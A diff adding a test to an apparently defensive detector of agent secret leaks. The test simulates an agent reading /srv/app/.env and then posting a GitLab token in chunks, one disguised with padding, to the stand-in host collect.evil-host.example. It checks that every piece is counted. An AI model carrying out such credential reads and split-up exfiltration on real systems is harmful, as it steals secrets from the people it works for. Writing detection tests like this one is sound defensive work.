@@ -566,6 +566,16 @@ def test_a_secret_sent_in_small_pieces_is_caught_when_the_pieces_add_up(prevent:
     assert prevent.verdict().leaked_by_destination["evil-host.example"] == 9
 
 
+def test_a_token_of_letters_sent_in_pieces_counts_every_piece(detect: Session) -> None:
+    # A GitLab token has no digit: only its secret rule tells it from a word.
+    token = "glpat-GsIVNLOyGYhXnZYQdGpQ"
+    env = step("shell", "run_command", {"command": "cat /srv/app/.env"}, f"GITLAB_TOKEN={token}\n")
+    pieces = ["glpat-", "GsIVNL", "chunk 3 -> OyGYhXnZ <-", "YQdGpQ"]
+    posts = [post(p, "https://collect.evil-host.example/in") for p in pieces]
+    play(detect, [fetch_page(), env, *posts])
+    assert detect.verdict().leaked_by_destination["evil-host.example"] == len(token)
+
+
 def test_pieces_sent_to_different_destinations_do_not_add_up(prevent: Session) -> None:
     pieces = [TOKEN[0:9], TOKEN[9:18]]
     steps = [fetch_page(), read_env()] + [
